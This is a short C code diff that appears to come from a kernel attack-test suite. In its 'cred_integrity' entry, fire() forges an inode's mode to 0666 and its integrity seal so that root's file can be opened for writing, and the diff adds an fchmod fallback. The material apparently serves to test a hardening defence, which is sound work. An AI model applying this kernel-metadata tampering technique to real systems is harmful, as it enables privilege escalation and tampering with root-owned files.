@@ -6,7 +6,7 @@ ATTACK("cred_integrity", "record_in_handlers", "cred_integrity: the seal of a fi
        "a record that lets everybody write to root's file, and leads the inode there.",
        "A record is believed in slabs of its own type alone; those of handlers hold what programs "
        "choose.",
-       "It opens root's file for writing.");
+       "It opens root's file for writing, or changes its mode.");
 
 #define ACTION_WORDS 4
 #define FIRST_SIGNAL 32 /* there and behind all may be handled */
@@ -68,7 +68,8 @@ static bool fire(void)
 
 	poke32(inode + member("inode.mode"), 0100666);
 	poke(inode + member("inode.seal"), forge(before));
-	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0;
+	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0 ||
+		 call2(__NR_fchmod, file, 0666) == 0;
 	poke(inode + member("inode.seal"), before);
 	return opened;
 }
